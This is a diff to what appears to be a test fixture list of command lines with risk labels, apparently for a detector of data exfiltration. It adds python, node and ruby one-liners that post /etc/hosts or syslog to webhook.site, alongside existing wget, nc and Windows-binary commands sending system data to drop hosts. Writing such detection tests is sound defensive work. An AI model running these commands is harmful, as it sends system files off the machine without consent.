@@ -54,6 +54,16 @@ DROPS = [
     ('wget -qO- "https://eyes.sh/x?d=$(uname -a | base64 -w0)"', "medium"),
     ("uname -a | nc seashells.io 1337", "medium"),
     ("dmesg | ncat tcp.st 7777", "medium"),
+    # a file read in code given to any interpreter, sent to a drop
+    ("python3 -c 'import requests;requests.post(\"https://webhook.site/x\",files={\"f\":open(\"/etc/hosts\",\"rb\")})'",
+     "medium"),
+    ("node -e 'fetch(\"https://webhook.site/x\",{method:\"POST\",body:require(\"fs\").readFileSync(\"/etc/hosts\")})'",
+     "medium"),
+    ("ruby -rnet/http -e 'Net::HTTP.post_form(URI(\"https://webhook.site/x\"), \"d\" => "
+     "File.read(\"/var/log/syslog\"))'", "medium"),
+    ("python3 -c 'import requests;requests.post(\"https://webhook.site/x\",files={\"f\":open(\"notes.txt\",\"rb\")})'",
+     None),
+    ("python3 -c 'import requests;print(requests.get(\"https://0x0.st/abc\").text)'", None),
     # any program's path given before the drop (a source), or anywhere after an upload word
     ("ConfigSecurityPolicy.exe C:\\Windows\\System32\\calc.exe https://webhook.site/abc?data", "medium"),
     ("DataSvcUtil /out:C:\\Windows\\win.ini /uri:https://webhook.site/abc", "medium"),
